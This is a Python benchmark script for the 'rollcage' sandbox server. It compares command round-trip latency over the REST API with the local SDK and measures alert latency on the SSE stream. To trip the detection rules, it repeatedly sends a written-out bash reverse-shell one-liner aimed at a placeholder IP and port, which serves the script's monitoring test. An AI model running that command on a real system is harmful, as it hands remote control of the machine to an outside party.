"""Admin server: a command's round trip through the REST API against the local SDK (p50/p95
side by side), and the live stream's alert latency, from the rule firing (the alert's own
timestamp) to the alert arriving on the SSE stream (p50).

    .venv/bin/python bench/server.py [--commands 200] [--alerts 30]
"""

from __future__ import annotations

import argparse
import json
import sys
import tempfile
import threading
import time
from datetime import datetime
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))

import httpx
from _common import CONFIG, NullSink, config_summary, report, summarize_ms

from rollcage import Sandbox
from rollcage.client import RemoteSandbox
from rollcage.server.app import ServerSettings
from rollcage.server.testing import LiveServer

TOKEN = "bench-token"
COMMAND = "true"
ALERT_COMMAND = "bash -i >& /dev/tcp/203.0.113.10/4444 0>&1"  # fires reverse-shell rules before it runs


def round_trips(sandbox: object, n: int) -> list[float]:
    for _ in range(10):  # warm up the session
        sandbox.run(COMMAND)  # type: ignore[attr-defined]
    samples = []
    for _ in range(n):
        t = time.perf_counter()
        sandbox.run(COMMAND)  # type: ignore[attr-defined]
        samples.append(time.perf_counter() - t)
    return samples


def alert_latencies(url: str, n: int) -> list[float]:
    arrivals: list[tuple[float, dict]] = []
    ready = threading.Event()
    done = threading.Event()

    def listen() -> None:
        headers = {"Authorization": f"Bearer {TOKEN}"}
        with httpx.stream("GET", url + "/v1/alerts/stream", headers=headers, timeout=60) as r:
            for line in r.iter_lines():
                if line.startswith(": connected"):
                    ready.set()
                elif line.startswith("data: "):
                    arrivals.append((time.time(), json.loads(line[6:])))
                if done.is_set():
                    return

    listener = threading.Thread(target=listen, daemon=True)
    listener.start()
    ready.wait(10)
    with RemoteSandbox(CONFIG, server=url, token=TOKEN, run_id="bench") as sb:
        for step in range(n):
            sb.run(ALERT_COMMAND, step=step, timeout=5)
            time.sleep(0.05)
        deadline = time.monotonic() + 5
        while len({a["step"] for _, a in arrivals}) < n and time.monotonic() < deadline:
            time.sleep(0.05)
    done.set()
    first: dict[int, float] = {}
    for arrived, alert in arrivals:  # one sample per command: its first alert
        fired = datetime.fromisoformat(alert["time"].replace("Z", "+00:00")).timestamp()
        first.setdefault(alert["step"], arrived - fired)
    return list(first.values())


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--commands", type=int, default=200)
    parser.add_argument("--alerts", type=int, default=30)
    args = parser.parse_args()
    with tempfile.TemporaryDirectory(prefix="rollcage-bench-server-") as tmp:
        settings = ServerSettings(token=TOKEN, event_db=Path(tmp) / "events.db", runs_dir=Path(tmp) / "runs")
        with LiveServer(settings) as server:
            with Sandbox(CONFIG, events=NullSink()) as local:
                local_s = round_trips(local, args.commands)
            with RemoteSandbox(CONFIG, server=server.url, token=TOKEN) as remote:
                remote_s = round_trips(remote, args.commands)
            latencies = alert_latencies(server.url, args.alerts)
    local_ms, remote_ms = summarize_ms(local_s), summarize_ms(remote_s)
    report("server", {
        "config": config_summary(),
        "command": COMMAND,
        "samples": args.commands,
        "round_trip_ms": {
            "local_sdk": {"p50": local_ms["p50"], "p95": local_ms["p95"]},
            "api": {"p50": remote_ms["p50"], "p95": remote_ms["p95"]},
            "api_overhead_p50": round(remote_ms["p50"] - local_ms["p50"], 4),
        },
        "round_trip_detail_ms": {"local_sdk": local_ms, "api": remote_ms},
        "alert_stream_latency_ms": {"samples": len(latencies), **(
            {"p50": summarize_ms(latencies)["p50"], "p95": summarize_ms(latencies)["p95"]} if latencies else {})},
        "transport": "HTTP/1.1 keep-alive over loopback (httpx -> uvicorn), SSE for the stream",
    })  # fmt: skip


if __name__ == "__main__":
    main()
